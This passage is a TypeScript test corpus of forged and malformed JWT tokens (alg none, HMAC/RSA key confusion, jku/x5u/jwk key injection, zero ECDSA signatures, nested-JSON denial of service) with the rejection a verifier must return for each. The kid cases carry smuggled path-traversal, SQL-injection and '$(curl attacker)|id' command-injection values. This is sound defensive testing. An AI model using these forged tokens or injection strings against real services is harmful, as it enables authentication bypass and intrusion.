/**
 * The attack corpus: one row per hostile token, with the answer every entry point must give (the
 * documented status and stable code, never an unhandled exception, a 500 or a hang) and why.
 * Cases come from RFC 8725 (JWT BCP), RFC 7515/7518/7519 and published JWT attacks.
 *
 * Published as `@org/auth-testing/attack-corpus`, apart from the package root: it is a table for
 * testing verifiers, not a helper for testing applications. It depends on nothing but Node, so
 * `@org/auth-core` runs it against its verifier and the conformance suite runs it over HTTP
 * against every adapter, from one table.
 *
 * @example
 * ```ts
 * import { createVerifier, isAuthError } from '@org/auth-core';
 * import { attackCases, createAttackEnvironment } from '@org/auth-testing/attack-corpus';
 *
 * const env = await createAttackEnvironment();
 * const verifier = createVerifier(env.options);
 * for (const attack of attackCases) {
 *   const outcome = await verifier
 *     .authenticate({ headers: { authorization: `Bearer ${attack.token(env)}` } })
 *     .then(() => ({ status: 200, code: null }))
 *     .catch((error) => (isAuthError(error) ? { status: error.status, code: error.code } : error));
 *   // outcome deep-equals attack.expect
 * }
 * await env.close();
 * ```
 *
 * @packageDocumentation
 */
import { createHmac, generateKeyPairSync, type KeyObject, randomUUID, sign as signBytes } from 'node:crypto';
import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

/** The issuer of the environment's tokens (its keys are served by the environment's JWKS server). */
export const CORPUS_ISSUER = 'https://issuer.corpus.test';
/** The audience the environment's verifier options expect. */
export const CORPUS_AUDIENCE = 'payments';
/** The only caller (`sub` of service tokens) on the environment's allow-list. */
export const CORPUS_CALLER = 'orders';

/** What one case must end in: `code` null only for the few documented acceptances. */
export interface AttackExpectation {
  readonly status: 200 | 400 | 401 | 403;
  readonly code: string | null;
}

/** One hostile token and the answer it must get. */
export interface AttackCase {
  readonly id: string;
  readonly name: string;
  /** Where the attack is described. */
  readonly source: string;
  /** Why this outcome is the right one. */
  readonly reason: string;
  /** The credential sent as `Authorization: Bearer <token>`. */
  readonly token: (env: AttackEnvironment) => string;
  readonly expect: AttackExpectation;
}

/** A signing key of the environment: its algorithm, key id and raw JWS signing function. */
export interface AttackSigner {
  readonly alg: string;
  readonly kid?: string;
  sign(input: string): Buffer;
}

/** The keys, servers and minting helpers the cases use. */
export interface AttackEnvironment {
  /** Verifier options: one remote issuer whose JWKS is on {@link AttackEnvironment.jwksUrl}. */
  readonly options: {
    readonly issuers: readonly { readonly issuer: string; readonly jwksUri: string }[];
    readonly audience: string;
    readonly services: { readonly callers: readonly string[] };
    readonly users: false;
  };
  readonly jwksUrl: string;
  /** A loopback server standing for the attacker's: it must never be asked for anything. */
  readonly attackerUrl: string;
  attackerHits(): number;
  jwksFetches(): number;
  readonly keys: {
    readonly rsa: { readonly publicKey: KeyObject; readonly privateKey: KeyObject };
    readonly ec: { readonly publicKey: KeyObject; readonly privateKey: KeyObject };
    readonly small: { readonly publicKey: KeyObject; readonly privateKey: KeyObject };
    readonly attacker: { readonly publicKey: KeyObject; readonly privateKey: KeyObject };
    readonly attackerRsa: { readonly publicKey: KeyObject; readonly privateKey: KeyObject };
  };
  readonly signers: {
    readonly rsa: AttackSigner;
    readonly ec: AttackSigner;
    readonly small: AttackSigner;
    readonly attacker: AttackSigner;
  };
  /** Service-token claims for this issuer, audience and caller, valid for five minutes. */
  claims(patch?: Record<string, unknown>): Record<string, unknown>;
  /** A compact JWS; header and payload are objects or raw JSON text. */
  jws(header: object | string, payload: object | string, signer: (input: string) => Buffer): string;
  /** A valid token signed with the EC key, `patch` applied to the claims. */
  valid(patch?: Record<string, unknown>, header?: Record<string, unknown>): string;
  close(): Promise<void>;
}

const b64 = (value: Buffer | string) => Buffer.from(value).toString('base64url');
const json = (value: object | string) => (typeof value === 'string' ? value : JSON.stringify(value));
const nowSeconds = () => Math.floor(Date.now() / 1000);

function ecSigner(privateKey: KeyObject, kid: string): AttackSigner {
  return {
    alg: 'ES256',
    kid,
    sign: (input) => signBytes('sha256', Buffer.from(input), { key: privateKey, dsaEncoding: 'ieee-p1363' }),
  };
}
function rsaSigner(privateKey: KeyObject, kid: string): AttackSigner {
  return { alg: 'RS256', kid, sign: (input) => signBytes('sha256', Buffer.from(input), privateKey) };
}
const hmac = (hash: string, secret: Buffer | string) => (input: string) =>
  createHmac(hash, secret).update(input).digest();
const unsigned = () => Buffer.alloc(0);

async function listenCounting(handler: RequestListener): Promise<Server> {
  const server = createServer(handler);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
}
const urlOf = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
const closeServer = (server: Server) =>
  new Promise<void>((resolve) => {
    server.closeAllConnections();
    server.close(() => resolve());
  });

/** Generates the keys and starts the issuer's JWKS server and the attacker's server. */
export async function createAttackEnvironment(): Promise<AttackEnvironment> {
  const keys = {
    rsa: generateKeyPairSync('rsa', { modulusLength: 2048 }),
    ec: generateKeyPairSync('ec', { namedCurve: 'P-256' }),
    small: generateKeyPairSync('rsa', { modulusLength: 1024 }),
    attacker: generateKeyPairSync('ec', { namedCurve: 'P-256' }),
    attackerRsa: generateKeyPairSync('rsa', { modulusLength: 2048 }),
  };
  const encryption = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = (key: KeyObject, extra: Record<string, unknown>) => ({
    ...key.export({ format: 'jwk' }),
    ...extra,
  });
  const document = JSON.stringify({
    keys: [
      jwk(keys.rsa.publicKey, { kid: 'rsa-1', alg: 'RS256', use: 'sig' }),
      jwk(keys.ec.publicKey, { kid: 'ec-1', alg: 'ES256', use: 'sig' }),
      // Published by the issuer but unusable: skipped when the key set is installed.
      jwk(keys.small.publicKey, { kid: 'rsa-small', alg: 'RS256', use: 'sig' }),
      jwk(encryption.publicKey, { kid: 'ec-enc', alg: 'ES256', use: 'enc' }),
    ],
  });
  let jwksFetches = 0;
  const jwksServer = await listenCounting((_req, res) => {
    jwksFetches++;
    res.writeHead(200, { 'content-type': 'application/json' }).end(document);
  });
  let attackerHits = 0;
  const attackerServer = await listenCounting((_req, res) => {
    attackerHits++;
    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [] }));
  });
  const jwksUrl = `${urlOf(jwksServer)}/jwks.json`;
  const signers = {
    rsa: rsaSigner(keys.rsa.privateKey, 'rsa-1'),
    ec: ecSigner(keys.ec.privateKey, 'ec-1'),
    small: rsaSigner(keys.small.privateKey, 'rsa-small'),
    attacker: ecSigner(keys.attacker.privateKey, 'attacker-1'),
  };
  const claims = (patch: Record<string, unknown> = {}) => {
    const now = nowSeconds();
    const all: Record<string, unknown> = {
      iss: CORPUS_ISSUER,
      sub: CORPUS_CALLER,
      aud: CORPUS_AUDIENCE,
      source: 'microservice',
      iat: now,
      exp: now + 300,
      jti: randomUUID(),
      ...patch,
    };
    for (const [name, value] of Object.entries(all)) if (value === undefined) delete all[name];
    return all;
  };
  const jws = (header: object | string, payload: object | string, signer: (input: string) => Buffer) => {
    const input = `${b64(json(header))}.${b64(json(payload))}`;
    return `${input}.${b64(signer(input))}`;
  };
  return {
    options: {
      issuers: [{ issuer: CORPUS_ISSUER, jwksUri: jwksUrl }],
      audience: CORPUS_AUDIENCE,
      services: { callers: [CORPUS_CALLER] },
      users: false,
    },
    jwksUrl,
    attackerUrl: urlOf(attackerServer),
    attackerHits: () => attackerHits,
    jwksFetches: () => jwksFetches,
    keys,
    signers,
    claims,
    jws,
    valid: (patch = {}, header = {}) =>
      jws({ alg: 'ES256', kid: 'ec-1', ...header }, claims(patch), signers.ec.sign),
    close: async () => {
      await closeServer(jwksServer);
      await closeServer(attackerServer);
    },
  };
}

// ---------------------------------------------------------------------------------------------
// Helpers for the rows

const rejected = (status: 400 | 401 | 403, code: string): AttackExpectation => ({ status, code });
const r401 = (code: string) => rejected(401, code);
const segments = (token: string) => token.split('.') as [string, string, string];
/** The token with one segment replaced. */
const replace = (token: string, index: 0 | 1 | 2, value: string) => {
  const parts = segments(token);
  parts[index] = value;
  return parts.join('.');
};
const pem = (key: KeyObject) => key.export({ format: 'pem', type: 'spki' }).toString();
const jwkBytes = (key: KeyObject) => JSON.stringify(key.export({ format: 'jwk' }));
/** An attacker-signed token naming `header` fields. */
const attackerToken = (env: AttackEnvironment, header: Record<string, unknown>, patch = {}) =>
  env.jws({ alg: 'ES256', ...header }, env.claims(patch), env.signers.attacker.sign);
const noneToken = (alg: string) => (env: AttackEnvironment) =>
  env.jws({ alg, typ: 'JWT' }, env.claims(), unsigned);

// Order of P-256 (SEC 2), for the high-S twin of a signature.
const P256_N = BigInt('0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551');
/**
 * The high-S twin of an ES256 signature (IEEE P1363 `r || s`): `s` replaced by `n - s`, which
 * verifies just as well. A second spelling of the same token, so nothing may be keyed on token
 * bytes alone.
 */
export function highS(signature: Buffer): Buffer {
  const s = BigInt(`0x${signature.subarray(32).toString('hex')}`);
  const twin = (P256_N - s).toString(16).padStart(64, '0');
  return Buffer.concat([signature.subarray(0, 32), Buffer.from(twin, 'hex')]);
}

const BCP = 'RFC 8725';
const confusion = 'RFC 8725 §2.1, §3.1; CVE-2015-9235 (HS256 with an RSA public key)';
const embedded = 'RFC 8725 §3.10; CVE-2018-0114 (embedded jwk), jku/x5u header injection';

/** Every case; at least 60, each run against the core and every adapter. */
export const attackCases: readonly AttackCase[] = [
  // --- Control: the environment accepts a good token --------------------------------------
  {
    id: 'control-valid',
    name: 'a valid token (control)',
    source: 'control',
    reason: 'proves the rejections below are about the attack, not the setup',
    token: (env) => env.valid(),
    expect: { status: 200, code: null },
  },
  // --- alg "none" ---------------------------------------------------------------------------
  ...['none', 'None', 'NONE', 'nOnE'].map(
    (alg): AttackCase => ({
      id: `alg-${alg}`,
      name: `alg "${alg}", empty signature`,
      source: `${BCP} §2.1; RFC 7518 §3.6; CVE-2015-9235`,
      reason: 'unsecured JWTs are never accepted, in any capitalisation (algorithm names are case-sensitive)',
      token: noneToken(alg),
      expect: r401('unsupported_algorithm'),
    }),
  ),
  {
    id: 'alg-none-with-signature',
    name: 'alg "none" with the signature of a valid token',
    source: `${BCP} §2.1`,
    reason: 'a signature does not make "none" acceptable',
    token: (env) => {
      const valid = env.valid();
      return replace(noneToken('none')(env), 2, segments(valid)[2]);
    },
    expect: r401('unsupported_algorithm'),
  },
  {
    id: 'alg-empty',
    name: 'alg ""',
    source: 'RFC 7515 §4.1.1',
    reason: 'alg is required and must name an algorithm',
    token: noneToken(''),
    expect: r401('malformed_token'),
  },
  {
    id: 'alg-missing',
    name: 'no alg header',
    source: 'RFC 7515 §4.1.1',
    reason: 'alg is required',
    token: (env) => env.jws({ kid: 'ec-1' }, env.claims(), env.signers.ec.sign),
    expect: r401('malformed_token'),
  },
  {
    id: 'alg-not-string',
    name: 'alg as an array',
    source: 'RFC 7515 §4.1.1',
    reason: 'alg is a case-sensitive string',
    token: (env) => env.jws({ alg: ['ES256'], kid: 'ec-1' }, env.claims(), env.signers.ec.sign),
    expect: r401('malformed_token'),
  },
  // --- Algorithm confusion --------------------------------------------------------------
  {
    id: 'hs256-rsa-pem',
    name: 'HS256 signed with the RSA public key PEM as the secret',
    source: confusion,
    reason: 'HMAC is not on the asymmetric issuer allow-list; no key is ever used with another family',
    token: (env) => env.jws({ alg: 'HS256' }, env.claims(), hmac('sha256', pem(env.keys.rsa.publicKey))),
    expect: r401('unsupported_algorithm'),
  },
  {
    id: 'hs256-rsa-pem-kid',
    name: 'HS256 signed with the RSA public key PEM, naming the RSA kid',
    source: confusion,
    reason: 'the kid cannot lend the RSA key to HMAC',
    token: (env) =>
      env.jws({ alg: 'HS256', kid: 'rsa-1' }, env.claims(), hmac('sha256', pem(env.keys.rsa.publicKey))),
    expect: r401('unsupported_algorithm'),
  },
  {
    id: 'hs256-ec-pem',
    name: 'HS256 signed with the EC public key PEM as the secret',
    source: confusion,
    reason: 'as above, for the EC key',
    token: (env) =>
      env.jws({ alg: 'HS256', kid: 'ec-1' }, env.claims(), hmac('sha256', pem(env.keys.ec.publicKey))),
    expect: r401('unsupported_algorithm'),
  },
  {
    id: 'hs256-rsa-jwk',
    name: 'HS256 signed with the RSA public JWK bytes as the secret',
    source: confusion,
    reason: 'as above, with the JWK serialisation',
    token: (env) =>
      env.jws({ alg: 'HS256', kid: 'rsa-1' }, env.claims(), hmac('sha256', jwkBytes(env.keys.rsa.publicKey))),
    expect: r401('unsupported_algorithm'),
  },
  {
    id: 'hs512-rsa-der',
    name: 'HS512 signed with the RSA public key DER as the secret',
    source: confusion,
    reason: 'every HMAC variant is off the list',
    token: (env) =>
      env.jws(
        { alg: 'HS512', kid: 'rsa-1' },
        env.claims(),
        hmac('sha512', env.keys.rsa.publicKey.export({ format: 'der', type: 'spki' })),
      ),
    expect: r401('unsupported_algorithm'),
  },
  ...['RS1', 'ES256K', 'rs256', 'HS1', 'RSA-OAEP'].map(
    (alg): AttackCase => ({
      id: `alg-outside-${alg}`,
      name: `alg "${alg}" outside the allow-list`,
      source: `${BCP} §3.1`,
      reason: 'only the allow-listed algorithms, in their exact spelling, are accepted',
      token: (env) => env.jws({ alg, kid: 'ec-1' }, env.claims(), env.signers.ec.sign),
      expect: r401('unsupported_algorithm'),
    }),
  ),
  {
    id: 'alg-family-mismatch-ps256',
    name: 'PS256 on the RSA key published for RS256 only',
    source: `${BCP} §3.1; RFC 7517 §4.4`,
    reason: "the JWK's alg binds the key to one algorithm",
    token: (env) =>
      env.jws({ alg: 'PS256', kid: 'rsa-1' }, env.claims(), (input) =>
        signBytes('sha256', Buffer.from(input), { key: env.keys.rsa.privateKey, padding: 6, saltLength: 32 }),
      ),
    expect: r401('unknown_key'),
  },
  {
    id: 'alg-relabel-es384',
    name: 'an ES256 signature relabelled ES384',
    source: `${BCP} §3.1`,
    reason: 'a P-256 key verifies ES256 only',
    token: (env) => env.jws({ alg: 'ES384', kid: 'ec-1' }, env.claims(), env.signers.ec.sign),
    expect: r401('unknown_key'),
  },
  {
    id: 'alg-es256-rsa-kid',
    name: 'an ES256 token naming the RSA key',
    source: `${BCP} §3.1`,
    reason: 'the named key cannot verify the algorithm',
    token: (env) => env.jws({ alg: 'ES256', kid: 'rsa-1' }, env.claims(), env.signers.attacker.sign),
    expect: r401('unknown_key'),
  },
  // --- kid ------------------------------------------------------------------------------
  ...(
    [
      ['kid-path-traversal', '../../../../../../dev/null'],
      ['kid-sql', "x' UNION SELECT 'secret' --"],
      ['kid-command', '$(curl attacker)|id'],
      ['kid-null-byte', 'ec-1\u0000'],
      ['kid-empty', ''],
      ['kid-unknown', 'not-a-key-of-this-issuer'],
    ] as const
  ).map(
    ([id, kid]): AttackCase => ({
      id,
      name: `kid ${JSON.stringify(kid)}, attacker's key`,
      source: `${BCP} §3.10`,
      reason:
        'kid is only compared with the ids of the issuer’s own keys; it is never a path, a query or a URL',
      token: (env) => attackerToken(env, { kid }),
      expect: r401('unknown_key'),
    }),
  ),
  {
    id: 'kid-url',
    name: "kid naming the attacker's URL",
    source: `${BCP} §3.10`,
    reason: 'kid is never fetched',
    token: (env) => attackerToken(env, { kid: `${env.attackerUrl}/key.pem` }),
    expect: r401('unknown_key'),
  },
  {
    id: 'kid-number',
    name: 'kid as a number',
    source: 'RFC 7515 §4.1.4',
    reason: 'kid is a string',
    token: (env) => attackerToken(env, { kid: 1 }),
    expect: r401('malformed_token'),
  },
  {
    id: 'kid-small-rsa',
    name: 'the 1024-bit RSA key the issuer publishes',
    source: 'RFC 7518 §3.3; NIST SP 800-131A',
    reason: 'RSA keys under 2048 bits are skipped when the key set is installed',
    token: (env) => env.jws({ alg: 'RS256', kid: 'rsa-small' }, env.claims(), env.signers.small.sign),
    expect: r401('unknown_key'),
  },
  {
    id: 'kid-encryption-key',
    name: 'a key the issuer publishes for encryption (use: enc)',
    source: 'RFC 7517 §4.2',
    reason: 'only signing keys verify',
    token: (env) => attackerToken(env, { kid: 'ec-enc' }),
    expect: r401('unknown_key'),
  },
  // --- Keys brought by the token --------------------------------------------------------
  {
    id: 'jku-attacker',
    name: "jku pointing to the attacker's JWKS",
    source: embedded,
    reason: 'keys come only from the configured issuer; jku is ignored and never fetched',
    token: (env) => attackerToken(env, { kid: 'attacker-1', jku: `${env.attackerUrl}/jwks.json` }),
    expect: r401('unknown_key'),
  },
  {
    id: 'jku-attacker-known-kid',
    name: "jku to the attacker's JWKS with a known kid",
    source: embedded,
    reason: 'the issuer’s key with that kid does not verify the attacker’s signature',
    token: (env) => attackerToken(env, { kid: 'ec-1', jku: `${env.attackerUrl}/jwks.json` }),
    expect: r401('invalid_signature'),
  },
  {
    id: 'x5u-attacker',
    name: "x5u pointing to the attacker's certificate",
    source: embedded,
    reason: 'x5u is ignored and never fetched',
    token: (env) => attackerToken(env, { kid: 'attacker-1', x5u: `${env.attackerUrl}/cert.pem` }),
    expect: r401('unknown_key'),
  },
  {
    id: 'x5c-attacker',
    name: "x5c carrying the attacker's key",
    source: embedded,
    reason: 'x5c is ignored: keys come from the issuer',
    token: (env) =>
      attackerToken(env, {
        kid: 'ec-1',
        x5c: [env.keys.attacker.publicKey.export({ format: 'der', type: 'spki' }).toString('base64')],
      }),
    expect: r401('invalid_signature'),
  },
  {
    id: 'jwk-embedded',
    name: "embedded jwk with the attacker's key, no kid",
    source: embedded,
    reason: 'the embedded jwk is ignored; the issuer’s ES256 keys do not verify it',
    token: (env) => attackerToken(env, { jwk: env.keys.attacker.publicKey.export({ format: 'jwk' }) }),
    expect: r401('invalid_signature'),
  },
  {
    id: 'jwk-embedded-kid',
    name: "embedded jwk with the attacker's key and a known kid",
    source: embedded,
    reason: 'as above',
    token: (env) =>
      attackerToken(env, { kid: 'ec-1', jwk: env.keys.attacker.publicKey.export({ format: 'jwk' }) }),
    expect: r401('invalid_signature'),
  },
  {
    id: 'jwk-embedded-rsa',
    name: "embedded RSA jwk with the attacker's RSA key",
    source: embedded,
    reason: 'as above, RSA',
    token: (env) =>
      env.jws(
        { alg: 'RS256', kid: 'rsa-1', jwk: env.keys.attackerRsa.publicKey.export({ format: 'jwk' }) },
        env.claims(),
        (input) => signBytes('sha256', Buffer.from(input), env.keys.attackerRsa.privateKey),
      ),
    expect: r401('invalid_signature'),
  },
  // --- Header extensions ----------------------------------------------------------------
  {
    id: 'crit-unknown',
    name: 'crit naming an unknown extension',
    source: 'RFC 7515 §4.1.11',
    reason: 'an extension the verifier does not understand must make it reject',
    token: (env) => env.valid({}, { crit: ['urn:example:policy'], 'urn:example:policy': 'x' }),
    expect: r401('unsupported_token'),
  },
  {
    id: 'crit-registered',
    name: 'crit naming a registered header (alg)',
    source: 'RFC 7515 §4.1.11',
    reason: 'crit must not list registered names',
    token: (env) => env.valid({}, { crit: ['alg'] }),
    expect: r401('unsupported_token'),
  },
  {
    id: 'crit-empty',
    name: 'crit as an empty list',
    source: 'RFC 7515 §4.1.11',
    reason: 'an empty crit is malformed',
    token: (env) => env.valid({}, { crit: [] }),
    expect: r401('malformed_token'),
  },
  {
    id: 'b64-false',
    name: 'b64: false (unencoded payload)',
    source: 'RFC 7797; RFC 7519 §7.2',
    reason: 'unencoded payloads have no place in a JWT',
    token: (env) => env.valid({}, { b64: false, crit: ['b64'] }),
    expect: r401('malformed_token'),
  },
  {
    id: 'b64-true',
    name: 'b64: true without crit',
    source: 'RFC 7797 §3',
    reason: 'any b64 header is refused: one token, one meaning',
    token: (env) => env.valid({}, { b64: true }),
    expect: r401('malformed_token'),
  },
  // --- Serialization and structure ------------------------------------------------------
  {
    id: 'jwe',
    name: 'a JWE (five parts) where a JWS is expected',
    source: `${BCP} §2.7, §3.8`,
    reason: 'encrypted tokens are not accepted',
    token: (env) =>
      `${b64(JSON.stringify({ alg: 'RSA-OAEP-256', enc: 'A256GCM', kid: 'rsa-1' }))}.${b64('key')}.${b64('iv')}.${b64(JSON.stringify(env.claims()))}.${b64('tag')}`,
    expect: r401('unsupported_token'),
  },
  {
    id: 'two-parts',
    name: 'two segments',
    source: 'RFC 7515 §7.1',
    reason: 'a JWS has three',
    token: (env) => segments(env.valid()).slice(0, 2).join('.'),
    expect: r401('malformed_token'),
  },
  {
    id: 'four-parts',
    name: 'an extra segment',
    source: 'RFC 7515 §7.1',
    reason: 'a JWS has three',
    token: (env) => `${env.valid()}.${b64('extra')}`,
    expect: r401('malformed_token'),
  },
  {
    id: 'trailing-dot',
    name: 'a trailing dot',
    source: 'RFC 7515 §7.1',
    reason: 'a JWS has three',
    token: (env) => `${env.valid()}.`,
    expect: r401('malformed_token'),
  },
  {
    id: 'signature-empty',
    name: 'empty signature',
    source: 'RFC 7515 §5.2',
    reason: 'nothing to verify',
    token: (env) => replace(env.valid(), 2, ''),
    expect: r401('invalid_signature'),
  },
  {
    id: 'signature-truncated',
    name: 'truncated signature',
    source: 'RFC 7515 §5.2',
    reason: 'does not verify',
    token: (env) => {
      const token = env.valid();
      return replace(token, 2, segments(token)[2].slice(0, 40));
    },
    expect: r401('invalid_signature'),
  },
  {
    id: 'signature-of-another-token',
    name: 'the signature of another valid token',
    source: 'RFC 7515 §5.2',
    reason: 'a signature covers exactly its header and payload',
    token: (env) => replace(env.valid(), 2, segments(env.valid({ sub: CORPUS_CALLER }))[2]),
    expect: r401('invalid_signature'),
  },
  {
    id: 'payload-changed',
    name: 'a changed payload with the original signature',
    source: 'RFC 7515 §5.2',
    reason: 'the claims are covered by the signature',
    token: (env) => replace(env.valid(), 1, b64(JSON.stringify(env.claims({ permissions: ['*'] })))),
    expect: r401('invalid_signature'),
  },
  {
    id: 'header-changed',
    name: 'a changed header with the original signature',
    source: 'RFC 7515 §5.2',
    reason: 'the protected header is covered by the signature',
    token: (env) => replace(env.valid(), 0, b64(JSON.stringify({ alg: 'ES256', kid: 'ec-1', typ: 'JWT' }))),
    expect: r401('invalid_signature'),
  },
  {
    id: 'signature-zero',
    name: 'ECDSA signature r = s = 0',
    source: 'CVE-2022-21449 ("psychic signatures")',
    reason: 'r and s must be in [1, n-1]',
    token: (env) => replace(env.valid(), 2, b64(Buffer.alloc(64))),
    expect: r401('invalid_signature'),
  },
  {
    id: 'signature-der',
    name: 'ECDSA signature in DER form',
    source: 'RFC 7518 §3.4',
    reason: 'JWS carries R || S (64 bytes for ES256), never ASN.1 DER',
    token: (env) =>
      env.jws({ alg: 'ES256', kid: 'ec-1' }, env.claims(), (input) =>
        signBytes('sha256', Buffer.from(input), { key: env.keys.ec.privateKey, dsaEncoding: 'der' }),
      ),
    expect: r401('invalid_signature'),
  },
  {
    id: 'signature-high-s',
    name: 'ECDSA signature with a high S (accepted, documented)',
    source: 'RFC 7518 §3.4 (no low-S rule); ECDSA malleability',
    reason:
      'RFC 7518 allows both S and n − S; the twin is a different token string with the same claims and jti, so replay protection keys on jti, never on token bytes',
    token: (env) =>
      env.jws({ alg: 'ES256', kid: 'ec-1' }, env.claims(), (input) => highS(env.signers.ec.sign(input))),
    expect: { status: 200, code: null },
  },
  {
    id: 'base64-plus',
    name: "standard base64 '+' in the payload",
    source: 'RFC 7515 §2 (base64url)',
    reason: 'only canonical base64url is accepted',
    token: (env) => {
      const token = env.valid();
      return replace(token, 1, `${segments(token)[1].slice(0, -1)}+`);
    },
    expect: r401('malformed_token'),
  },
  {
    id: 'base64-padding-signature',
    name: "base64 padding '=' after the signature",
    source: 'RFC 7515 §2',
    reason: 'base64url in JWS has no padding',
    token: (env) => `${env.valid()}==`,
    expect: r401('malformed_token'),
  },
  {
    id: 'base64-padding-header',
    name: "base64 padding '=' inside the token",
    source: 'RFC 7515 §2; RFC 6750 §2.1 (b64token)',
    reason: "'=' may only end a bearer credential: the request is malformed",
    token: (env) => {
      const [header, payload, signature] = segments(env.valid());
      return `${header}=.${payload}.${signature}`;
    },
    expect: rejected(400, 'malformed_request'),
  },
  {
    id: 'base64-stray-bits',
    name: 'non-zero unused bits in the last signature character',
    source: 'RFC 4648 §3.5; Wycheproof ModifiedUnusedBits',
    reason: 'one token has exactly one spelling',
    token: (env) => {
      const token = env.valid();
      const signature = segments(token)[2];
      const last = signature.at(-1) ?? 'A';
      const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
      const twin = alphabet[alphabet.indexOf(last) ^ 1] ?? 'B';
      return replace(token, 2, `${signature.slice(0, -1)}${twin}`);
    },
    expect: r401('malformed_token'),
  },
  {
    id: 'whitespace-space',
    name: 'a space inside the token',
    source: 'RFC 6750 §2.1',
    reason: 'a bearer credential has no whitespace: two credentials is a malformed request',
    token: (env) => {
      const token = env.valid();
      return `${token.slice(0, 20)} ${token.slice(20)}`;
    },
    expect: rejected(400, 'malformed_request'),
  },
  {
    id: 'whitespace-tab',
    name: 'a tab inside the token',
    source: 'RFC 6750 §2.1',
    reason: 'as above',
    token: (env) => {
      const token = env.valid();
      return `${token.slice(0, 20)}\t${token.slice(20)}`;
    },
    expect: rejected(400, 'malformed_request'),
  },
  {
    id: 'not-json-header',
    name: 'a header that is not JSON',
    source: 'RFC 7515 §5.2 step 3',
    reason: 'the header is a JSON object',
    token: (env) => replace(env.valid(), 0, b64('alg=ES256')),
    expect: r401('malformed_token'),
  },
  {
    id: 'array-header',
    name: 'a header that is a JSON array',
    source: 'RFC 7515 §5.2 step 3',
    reason: 'the header is a JSON object',
    token: (env) => env.jws('[{"alg":"ES256"}]', env.claims(), env.signers.ec.sign),
    expect: r401('malformed_token'),
  },
  {
    id: 'string-payload',
    name: 'a payload that is a JSON string',
    source: 'RFC 7519 §7.2 step 10',
    reason: 'the claims set is a JSON object',
    token: (env) => env.jws({ alg: 'ES256', kid: 'ec-1' }, '"claims"', env.signers.ec.sign),
    expect: r401('malformed_token'),
  },
  {
    id: 'invalid-utf8-payload',
    name: 'a payload that is not UTF-8',
    source: 'RFC 7519 §7.2 step 10; RFC 8259 §8.1',
    reason: 'JSON text is UTF-8',
    token: (env) => {
      const input = `${b64(JSON.stringify({ alg: 'ES256', kid: 'ec-1' }))}.${b64(Buffer.from([0x7b, 0xff, 0xfe, 0x7d]))}`;
      return `${input}.${b64(env.signers.ec.sign(input))}`;
    },
    expect: r401('malformed_token'),
  },
  {
    id: 'opaque',
    name: 'an opaque token',
    source: 'RFC 6750',
    reason: 'only JWTs are accepted',
    token: () => '2YotnFZFEjr1zCsicMWpAA',
    expect: r401('unsupported_token'),
  },
  {
    id: 'huge',
    name: 'a token over 8 KiB',
    source: `${BCP} (denial of service)`,
    reason: 'measured before any parsing',
    token: (env) => env.valid({ padding: 'x'.repeat(9000) }),
    expect: rejected(400, 'malformed_request'),
  },
  {
    id: 'deeply-nested-signed',
    name: 'a deeply nested claim (2000 levels), validly signed, wrong audience',
    source: 'JSON nesting denial of service',
    reason: 'parsing and freezing stay iterative enough; the token fails on its claims, not with a crash',
    token: (env) =>
      env.jws(
        { alg: 'ES256', kid: 'ec-1' },
        JSON.stringify(env.claims({ aud: 'billing' })).replace(
          /}$/,
          `,"deep":${'['.repeat(2000)}${']'.repeat(2000)}}`,
        ),
        env.signers.ec.sign,
      ),
    expect: r401('invalid_audience'),
  },
  {
    id: 'deeply-nested-header',
    name: 'a deeply nested header member (2000 levels)',
    source: 'JSON nesting denial of service',
    reason: 'parsed, then rejected on its signature',
    token: (env) =>
      env.jws(
        `{"alg":"ES256","kid":"ec-1","x":${'['.repeat(2000)}${']'.repeat(2000)}}`,
        env.claims(),
        env.signers.attacker.sign,
      ),
    expect: r401('invalid_signature'),
  },
  {
    id: 'duplicate-alg',
    name: 'duplicate alg in the header ("ES256", then "none")',
    source: `${BCP} §3.2; RFC 7515 §5.2 step 4`,
    reason:
      'JSON.parse keeps the last member, another parser the first: such tokens are malformed, so every reader agrees',
    token: (env) => env.jws('{"alg":"ES256","kid":"ec-1","alg":"none"}', env.claims(), env.signers.ec.sign),
    expect: r401('malformed_token'),
  },
  {
    id: 'duplicate-aud',
    name: 'duplicate aud in a validly signed payload',
    source: `${BCP} §3.2`,
    reason: 'as above',
    token: (env) =>
      env.jws(
        { alg: 'ES256', kid: 'ec-1' },
        JSON.stringify(env.claims({ aud: 'billing' })).replace(/}$/, ',"aud":"payments"}'),
        env.signers.ec.sign,
      ),
    expect: r401('malformed_token'),
  },
  {
    id: 'duplicate-escaped',
    name: 'duplicate sub spelled with a \\u escape',
    source: `${BCP} §3.2`,
    reason: '"s\\u0075b" is "sub": escapes are decoded before comparing names',
    token: (env) =>
      env.jws(
        { alg: 'ES256', kid: 'ec-1' },
        JSON.stringify(env.claims()).replace(/}$/, ',"s\\u0075b":"admin"}'),
        env.signers.ec.sign,
      ),
    expect: r401('malformed_token'),
  },
  // --- Time claims (all validly signed) ---------------------------------------------------
  ...(
    [
      ['exp-string', 'exp as a string', () => ({ exp: String(nowSeconds() + 300) }), 'invalid_claim'],
      ['exp-negative', 'exp negative', () => ({ exp: -1 }), 'invalid_claim'],
      ['exp-huge', 'exp = 1e12 (year 33658)', () => ({ exp: 1e12 }), 'invalid_claim'],
      ['exp-null', 'exp null', () => ({ exp: null }), 'invalid_claim'],
      ['exp-boolean', 'exp true', () => ({ exp: true }), 'invalid_claim'],
      ['exp-missing', 'no exp', () => ({ exp: undefined }), 'missing_claim'],
      ['exp-far-future', 'exp in the year 3000', () => ({ exp: 32_503_680_000 }), 'lifetime_too_long'],
      [
        'exp-float-past',
        'exp a fraction in the past (fractions are valid NumericDates)',
        () => ({ iat: nowSeconds() - 600, exp: nowSeconds() - 59.5 }),
        'token_expired',
      ],
      ['nbf-string', 'nbf as a string', () => ({ nbf: String(nowSeconds()) }), 'invalid_claim'],
      ['nbf-future', 'nbf an hour ahead', () => ({ nbf: nowSeconds() + 3600 }), 'token_not_active'],
      ['iat-string', 'iat as a string', () => ({ iat: String(nowSeconds()) }), 'invalid_claim'],
